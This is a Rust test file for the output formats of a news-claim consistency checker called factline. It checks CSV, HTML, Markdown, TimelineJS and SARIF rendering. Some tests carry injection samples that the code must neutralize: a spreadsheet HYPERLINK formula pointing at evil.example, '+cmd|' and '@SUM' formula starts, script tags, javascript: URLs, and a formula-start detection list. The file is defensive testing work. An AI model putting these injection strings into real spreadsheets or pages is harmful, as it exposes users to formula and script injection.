//! Every output format on a hand-built report (tests/output_support): snapshots of the text
//! formats, hostile input in every format, CSV safety, SARIF validated against its schema.

mod output_support;

use factline::output;
use factline::Report;
use output_support::sample_report;

fn render(f: impl FnOnce(&Report, &mut Vec<u8>) -> std::io::Result<()>) -> String {
    let mut out = Vec::new();
    let result = f(&sample_report(), &mut out);
    assert!(result.is_ok(), "{result:?}");
    String::from_utf8(out).unwrap_or_else(|e| panic!("not UTF-8: {e}"))
}

fn csv_records(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .map(|r| match r {
            Ok(r) => r.iter().map(String::from).collect(),
            Err(e) => panic!("invalid CSV: {e}\n{text}"),
        })
        .collect()
}

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn assert_no_live_formula(records: &[Vec<String>]) {
    for record in records {
        for cell in record {
            let first = cell.trim_start_matches(' ').chars().next();
            assert!(
                !first.is_some_and(|c| FORMULA_STARTS.contains(&c)),
                "cell would run as a formula: {cell:?}"
            );
        }
    }
}

#[test]
fn json_snapshot() {
    let text = render(|r, w| output::json::render(r, w));
    insta::assert_snapshot!("json", text);
}

#[test]
fn json_follows_the_factline_1_schema() {
    let text = render(|r, w| output::json::render(r, w));
    let v: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
    assert_eq!(v["schema"], "factline/1");
    assert_eq!(v["documents"], 7);
    assert_eq!(v["claims"], 12);
    let findings = v["findings"].as_array().cloned().unwrap_or_default();
    assert_eq!(findings.len(), 3);
    for f in &findings {
        for key in [
            "id",
            "rule",
            "severity",
            "event",
            "attribute",
            "message",
            "status",
            "claims",
        ] {
            assert!(f.get(key).is_some(), "finding lacks {key}: {f}");
        }
        for c in f["claims"].as_array().cloned().unwrap_or_default() {
            for key in [
                "doc",
                "source",
                "published",
                "line",
                "quote",
                "value",
                "low",
                "high",
                "attribution",
            ] {
                assert!(c.get(key).is_some(), "claim lacks {key}: {c}");
            }
        }
    }
    // "at least 6" is unbounded: high is null; a month's low/high are its first and last day.
    assert_eq!(findings[0]["claims"][2]["high"], serde_json::Value::Null);
    assert_eq!(findings[1]["claims"][0]["low"], "2011-09-01");
    assert_eq!(findings[1]["claims"][0]["high"], "2011-09-30");
    assert_eq!(findings[2]["status"], "accepted");
    assert_eq!(v["diagnostics"][0]["line"], 3);
}

#[test]
fn timeline_csv_snapshot() {
    let text = render(|r, w| output::csv::render(r, w));
    insta::assert_snapshot!("timeline_csv", text);
}

#[test]
fn timeline_csv_has_the_documented_columns_and_one_row_per_dated_claim() {
    let text = render(|r, w| output::csv::render(r, w));
    let records = csv_records(&text);
    let header = records.first().cloned().unwrap_or_default();
    let at_least = [
        "date",
        "date_end",
        "granularity",
        "event",
        "attribute",
        "value",
        "source",
        "published",
        "doc",
        "line",
        "quote",
        "attribution",
    ];
    for column in at_least {
        assert!(
            header.iter().any(|h| h == column),
            "missing column {column}"
        );
    }
    // 12 claims, one of them (dozens injured) without any date.
    assert_eq!(records.len(), 1 + 11);
    let dates: Vec<&String> = records.iter().skip(1).filter_map(|r| r.first()).collect();
    let mut sorted = dates.clone();
    sorted.sort();
    assert_eq!(dates, sorted, "rows sorted by date");
    assert!(text.contains("\r\n"), "RFC 4180 line ends");
    assert!(
        !text.replace("\r\n", "").contains("\r,"),
        "no bare CR outside quotes"
    );
}

#[test]
fn hostile_quotes_are_neutralized_and_round_trip_in_csv() {
    let text = render(|r, w| output::csv::render(r, w));
    let records = csv_records(&text);
    assert_no_live_formula(&records);
    let quote_col = records
        .first()
        .and_then(|h| h.iter().position(|c| c == "quote"))
        .unwrap_or(usize::MAX);
    let hostile = records
        .iter()
        .filter_map(|r| r.get(quote_col))
        .find(|q| q.contains("HYPERLINK"))
        .cloned()
        .unwrap_or_default();
    // Neutralized with a leading ', otherwise byte for byte what the page said, newline and
    // double quotes included.
    assert!(
        hostile.starts_with("'=HYPERLINK(\"http://evil.example/"),
        "{hostile:?}"
    );
    assert!(hostile.contains("\nsecond line, \"quoted\""), "{hostile:?}");
    assert!(text.contains("'@SUM(1+1)"), "@ formula neutralized");
    assert!(text.contains("'+cmd|"), "+ formula neutralized");
    assert!(text.contains("'-6 or more"), "- formula neutralized");
}

#[test]
fn bom_only_when_asked() {
    let plain = render(|r, w| output::csv::render(r, w));
    assert!(plain.starts_with("date,"));
    let bom = render(|r, w| output::csv::render_with(r, output::csv::Options { bom: true }, w));
    assert!(bom.starts_with("\u{feff}date,"));
    let js =
        render(|r, w| output::timelinejs::render_with(r, output::csv::Options { bom: true }, w));
    assert!(js.starts_with("\u{feff}Year,Month,"));
}

#[test]
fn timelinejs_snapshot() {
    let text = render(|r, w| output::timelinejs::render(r, w));
    insta::assert_snapshot!("timelinejs", text);
}

#[test]
fn timelinejs_has_the_template_columns_and_partial_dates() {
    let text = render(|r, w| output::timelinejs::render(r, w));
    let records = csv_records(&text);
    assert_eq!(
        records.first().cloned().unwrap_or_default(),
        [
            "Year",
            "Month",
            "Day",
            "Time",
            "End Year",
            "End Month",
            "End Day",
            "End Time",
            "Display Date",
            "Headline",
            "Text",
            "Media",
            "Media Credit",
            "Media Caption",
            "Media Thumbnail",
            "Type",
            "Group",
            "Background"
        ]
    );
    assert_no_live_formula(&records);
    // Three events, in date order: founding (a year), delisting (a year, disputed), mortar (a day).
    let rows: Vec<&Vec<String>> = records.iter().skip(1).collect();
    assert_eq!(rows.len(), 3);
    let cells = |i: usize| rows.get(i).map(|r| r[..3].to_vec()).unwrap_or_default();
    assert_eq!(cells(0), ["1963", "", ""], "year-only: no Month, no Day");
    assert_eq!(cells(2), ["2013", "2", "9"]);
    let delisting = rows.get(1).cloned().cloned().unwrap_or_default();
    assert_eq!(delisting.get(9).map(String::as_str), Some("mek-delisting"));
    assert!(
        delisting.get(8).is_some_and(|d| d.contains("disputed")),
        "{delisting:?}"
    );
    let mortar_text = rows
        .get(2)
        .and_then(|r| r.get(10))
        .cloned()
        .unwrap_or_default();
    assert!(
        !mortar_text.contains("<script"),
        "Text is HTML for TimelineJS: escaped"
    );
    assert!(mortar_text.contains("&lt;script&gt;"));
    assert!(!mortar_text.contains("javascript:"));
    let credit = rows
        .get(2)
        .and_then(|r| r.get(12))
        .cloned()
        .unwrap_or_default();
    assert!(
        credit.contains("Bay Courier") && credit.contains("Northern Herald"),
        "{credit}"
    );
}

#[test]
fn markdown_snapshot() {
    let text = render(|r, w| output::markdown::render(r, w));
    insta::assert_snapshot!("markdown", text);
}

#[test]
fn markdown_escapes_html_pipes_and_backticks() {
    let text = render(|r, w| output::markdown::render(r, w));
    assert!(!text.contains("<script"), "{text}");
    assert!(!text.contains("<b>"), "{text}");
    assert!(!text.contains("javascript:"), "{text}");
    for line in text.lines().filter(|l| l.starts_with("| ")) {
        let unescaped = line
            .char_indices()
            .filter(|&(i, c)| c == '|' && !line[..i].ends_with('\\'))
            .count();
        assert_eq!(unescaped, 5, "a quote broke the table: {line}");
    }
    assert!(text.contains("\\`rm\\`"));
    assert!(text.contains("**2 open (2 high)") || text.contains("3 findings: 2 open (2 high)"));
}

#[test]
fn table_snapshot() {
    let options = output::table::Options {
        color: false,
        width: Some(140),
    };
    let text = render(|r, w| output::table::render_with(r, options, w));
    insta::assert_snapshot!("table", text);
}

#[test]
fn timeline_table_and_json_snapshots() {
    let table = render(|r, w| output::timeline::render_table(r, Some(140), w));
    insta::assert_snapshot!("timeline_table", table);
    let json = render(|r, w| output::timeline::render_json(r, w));
    let rows: serde_json::Value = serde_json::from_str(&json).unwrap_or_default();
    assert_eq!(rows.as_array().map(Vec::len), Some(11));
    assert_eq!(rows[0]["date"], "1960-01-01");
    assert_eq!(rows[0]["granularity"], "decade");
}

#[test]
fn sarif_snapshot() {
    let text = render(|r, w| output::sarif::render(r, w));
    let version = format!("\"version\": \"{}\"", env!("CARGO_PKG_VERSION"));
    insta::assert_snapshot!(
        "sarif",
        text.replace(&version, "\"version\": \"[VERSION]\"")
    );
}

#[test]
fn sarif_validates_against_the_sarif_2_1_0_schema() {
    let schema_text = include_str!("sarif-schema-2.1.0.json");
    let schema: serde_json::Value = serde_json::from_str(schema_text).unwrap_or_default();
    let validator = match jsonschema::validator_for(&schema) {
        Ok(v) => v,
        Err(e) => panic!("schema does not compile: {e}"),
    };
    let text = render(|r, w| output::sarif::render(r, w));
    let log: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
    let errors: Vec<String> = validator
        .iter_errors(&log)
        .map(|e| format!("{} at {}", e, e.instance_path))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    // And a broken log does not validate: the test can fail.
    let mut broken = log.clone();
    broken["runs"][0]["results"][0]["level"] = "fatal".into();
    assert!(!validator.is_valid(&broken));

    let results = log["runs"][0]["results"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert_eq!(results.len(), 3);
    let first = &results[0];
    assert_eq!(
        first["locations"][0]["physicalLocation"]["region"]["startLine"],
        7
    );
    assert_eq!(first["relatedLocations"].as_array().map(Vec::len), Some(2));
    assert_eq!(
        first["partialFingerprints"]["factlineFinding/v1"],
        "9a8b7c6d5e4f3a2b"
    );
    assert_eq!(results[2]["suppressions"][0]["status"], "accepted");
    let rules = log["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let ids: Vec<&str> = rules.iter().filter_map(|r| r["id"].as_str()).collect();
    assert_eq!(ids, ["count-disagreement", "date-disagreement"]);
    assert_eq!(
        rules[first["ruleIndex"].as_u64().unwrap_or(99) as usize]["id"],
        first["ruleId"]
    );
}

#[test]
fn html_is_self_contained_escaped_and_draws_every_mark() {
    let html = render(|r, w| output::html::render(r, w));
    assert!(!html.contains("<script"), "hostile script escaped");
    assert!(!html.contains("javascript:"));
    assert!(!html.contains(" src="), "nothing loaded from anywhere");
    assert!(!html.contains("<link"));
    assert!(!html.contains("@import"));
    assert_eq!(html.matches("class=\"event-lane\"").count(), 3);
    let marks =
        html.matches("<rect class=\"mark").count() + html.matches("<circle class=\"mark").count();
    assert_eq!(marks, 11, "one mark per dated claim");
    assert_eq!(html.matches("<section class=\"finding ").count(), 3);
    // The two open findings' claims are red and link to them; the accepted one's are grey.
    assert_eq!(html.matches("class=\"mark conflict\"").count(), 6);
    assert_eq!(html.matches("class=\"mark accepted\"").count(), 2);
    assert!(html.contains("<a href=\"#finding-9a8b7c6d5e4f3a2b\">"));
    assert!(html.contains("id=\"finding-9a8b7c6d5e4f3a2b\""));
    // A month is a bar, a decade is a bar, a day is a dot.
    assert!(html.contains("<rect class=\"mark conflict\" data-event=\"mek-delisting\" data-source=\"Counterpoint Review\" data-granularity=\"month\""));
    assert!(html.contains("data-granularity=\"decade\""));
    assert_eq!(html.matches("<tr class=\"source\">").count(), 8);
}

#[test]
fn output_does_not_depend_on_claim_order() {
    let report = sample_report();
    let mut shuffled = report.clone();
    shuffled.claims.reverse();
    shuffled.claims.rotate_left(5);
    type Render = fn(&Report, &mut dyn std::io::Write) -> std::io::Result<()>;
    let formats: [(&str, Render); 4] = [
        ("csv", output::csv::render),
        ("timelinejs", output::timelinejs::render),
        ("html", output::html::render),
        ("timeline json", output::timeline::render_json),
    ];
    for (name, f) in formats {
        let (mut a, mut b) = (Vec::new(), Vec::new());
        assert!(f(&report, &mut a).is_ok() && f(&shuffled, &mut b).is_ok());
        assert!(a == b, "{name} depends on claim order");
    }
}

#[test]
fn event_names_and_rule_descriptions_are_shown_when_known() {
    let mut names = output::Names::default();
    names.events.insert(
        "mek-delisting".into(),
        "MEK taken off the US terror list <2012>".into(),
    );
    names.rules.insert(
        "date-disagreement".into(),
        "Sources must agree on when an event happened".into(),
    );
    let js = render(|r, w| {
        output::timelinejs::render_named(r, output::csv::Options::default(), &names, w)
    });
    assert!(
        js.contains(",MEK taken off the US terror list &lt;2012&gt;,"),
        "{js}"
    );
    assert!(
        js.contains(",mek-founding,"),
        "an event without a name keeps its id"
    );
    let options = output::html::Options {
        title: "t".into(),
        names: names.clone(),
    };
    let html = render(|r, w| output::html::render_with(r, &options, w));
    assert!(html.contains("<h3 class=\"event\">MEK taken off the US terror list &lt;2012&gt;</h3>"));
    assert!(
        html.contains("<title>MEK taken off the US terror list &lt;2012&gt;: "),
        "full name in the lane tooltip"
    );
    let sarif = render(|r, w| output::sarif::render_with(r, &names, w));
    assert!(sarif.contains("\"text\": \"Sources must agree on when an event happened\""));
}
